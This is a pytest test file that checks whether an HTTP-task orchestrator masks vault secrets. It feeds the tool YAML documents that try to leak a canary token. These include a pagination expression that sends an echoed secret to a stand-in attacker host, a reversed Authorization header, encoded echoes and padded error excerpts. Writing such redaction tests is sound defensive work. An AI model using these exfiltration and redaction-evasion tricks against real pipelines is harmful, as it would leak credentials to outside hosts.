"""Secret exfiltration attempts on loopback, through ``orchestrator run``: a document tries to
turn a server's echo of a secret into something the redactor does not know, or to carry it to a
host the secret is not bound to. The secret is bound to 127.0.0.1; ``localhost`` (the same
server under another name) plays the attacker's host.

Each test checks that the attacker's host received nothing carrying the secret, and that the
secret (and the transform the document asked for) appears nowhere in the run's answers or in
the data folder.
"""

from __future__ import annotations

import html
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from cli_process import cli, home_with_secrets
from local_server import LocalServer

SECRET = "sk-canary-4c1d9e07b2a8f653"


@pytest.fixture(scope="module")
def server() -> Iterator[LocalServer]:
    with LocalServer() as running:
        yield running


@pytest.fixture
def home(tmp_path: Path) -> Path:
    return home_with_secrets(tmp_path / "home", TOKEN=SECRET)


def run(home: Path, document: str) -> tuple[dict[str, Any], str]:
    path = home.parent / "attack.yaml"
    path.write_text(document, encoding="utf-8")
    done = cli(home, "run", path, "--json", timeout=120)
    return json.loads(done.stdout), done.stdout + done.stderr


def assert_nowhere(home: Path, shown: str, *forms: str) -> None:
    for form in (SECRET, *forms):
        assert form not in shown, f"{form!r} in the CLI's output"
        for path in (p for p in home.rglob("*") if p.is_file()):
            assert form.encode() not in path.read_bytes(), f"{form!r} in {path}"


def attacker_saw(server: LocalServer) -> list[dict[str, Any]]:
    return [r for r in server.state.requests if r["host"] == "localhost" and SECRET in str(r)]


def test_paginate_next_cannot_carry_an_echoed_secret_to_another_host(
    home: Path, server: LocalServer
) -> None:
    # page 1 goes to the allowed host with the secret in its query; the server echoes the query,
    # and paginate.next builds the next page's URL on the attacker's host from that echo
    steal = f"join('', ['{server.url(host='localhost')}/echo?stolen=', query.key || 'none'])"
    results, shown = run(
        home,
        f"""
tasks:
  - id: pages
    type: http
    config:
      url: "{server.url()}/echo"
      params: {{key: "${{vault.TOKEN}}"}}
      paginate: {{items: "[query]", next: "{steal}", max_pages: 2}}
""",
    )
    assert attacker_saw(server) == []
    assert results["tasks"]["pages"]["state"] == "succeeded", results["tasks"]["pages"]
    assert_nowhere(home, shown)


def test_extract_cannot_transform_an_echoed_secret(home: Path, server: LocalServer) -> None:
    results, shown = run(
        home,
        f"""
tasks:
  - id: echo
    type: http
    config:
      url: "{server.url()}/echo"
      auth: {{type: bearer, token: "${{vault.TOKEN}}"}}
      extract: "reverse(headers.authorization)"
""",
    )
    assert results["tasks"]["echo"]["output"]["data"] == "*** reraeB"
    assert_nowhere(home, shown, SECRET[::-1], SECRET[::-1][:12])


def test_a_bytes_artifact_holds_no_echoed_secret(home: Path, server: LocalServer) -> None:
    results, shown = run(
        home,
        f"""
tasks:
  - id: download
    type: http
    config:
      url: "{server.url()}/echo"
      params: {{key: "${{vault.TOKEN}}"}}
      response: bytes
""",
    )
    task = results["tasks"]["download"]
    assert task["state"] == "succeeded", task
    artifacts = list(home.rglob("artifacts/*"))
    assert artifacts and b'"key":"***"' in artifacts[0].read_bytes()
    assert_nowhere(home, shown)


def test_an_error_excerpt_holds_no_part_of_an_echoed_secret(
    home: Path, server: LocalServer
) -> None:
    # padding puts the secret across the 200-character cut of the error's body excerpt
    for pad in range(120, 150, 6):
        results, shown = run(
            home,
            f"""
tasks:
  - id: echo
    type: http
    config:
      url: "{server.url()}/echo"
      params: {{pad: "{"x" * pad}", key: "${{vault.TOKEN}}"}}
      expect_status: [201]
""",
        )
        assert results["tasks"]["echo"]["state"] == "failed"
        assert_nowhere(home, shown, SECRET[:8], SECRET[-8:])


class RawEcho(BaseHTTPRequestHandler):
    """Answers 404 with the request target exactly as it arrived, as many error pages do."""

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        key = self.headers.get("X-Key")
        if key is not None:  # an HTML page quoting a header, escaped as HTML
            page = f"<p>unknown key {html.escape(key)}</p>".encode()
            self.send_response(403)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)
            return
        body = json.dumps({"not_found": self.path}).encode()
        self.send_response(404)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def test_a_secret_echoed_url_encoded_or_html_escaped_is_masked(tmp_path: Path) -> None:
    # httpx escapes the space of a path or query and leaves '!' and '(' as they are: neither
    # the raw value nor quote()'s spelling of it; the document reverses what is echoed; and an
    # HTML page quotes a header escaped as HTML
    value = "pass (word)!x7"
    home = home_with_secrets(tmp_path / "home", ODD=value, HTML='key&"<7>')
    echo = ThreadingHTTPServer(("127.0.0.1", 0), RawEcho)
    threading.Thread(target=echo.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{echo.server_address[1]}"
    try:
        results, shown = run(
            home,
            f"""
tasks:
  - id: path
    type: http
    config: {{url: "{base}/p/${{vault.ODD}}", expect_status: [404], extract: "reverse(not_found)"}}
  - id: query
    type: http
    config: {{url: "{base}/q?k=${{vault.ODD}}", expect_status: [404], extract: not_found}}
  - id: page
    type: http
    config:
      url: "{base}/h"
      headers: {{X-Key: "${{vault.HTML}}"}}
      expect_status: [403]
      response: text
""",
        )
    finally:
        echo.shutdown()
        echo.server_close()
    assert results["tasks"]["path"]["output"]["data"] == "***/p/", results["tasks"]["path"]
    assert results["tasks"]["page"]["output"]["data"] == "<p>unknown key ***</p>"
    assert results["tasks"]["query"]["output"]["data"] == "/q?k=***", results["tasks"]["query"]
    spelled = httpx.URL(f"{base}/p/{value}").raw_path.decode()[3:]
    assert_nowhere(home, shown, value, spelled, spelled[::-1], "word)!x7", "&quot;&lt;7")


def test_a_non_ascii_secret_in_a_header_fails_clearly(tmp_path: Path, server: LocalServer) -> None:
    home = home_with_secrets(tmp_path / "home", UNICODE="pässwörd-canary-€")
    results, shown = run(
        home,
        f"""
tasks:
  - id: call
    type: http
    config: {{url: "{server.url()}/echo", headers: {{X-Key: "${{vault.UNICODE}}"}}}}
""",
    )
    task = results["tasks"]["call"]
    assert (task["state"], task["error_class"]) == ("failed", "config"), task
    assert "header X-Key holds non-ASCII characters" in task["error"]
    assert "pässwörd" not in shown
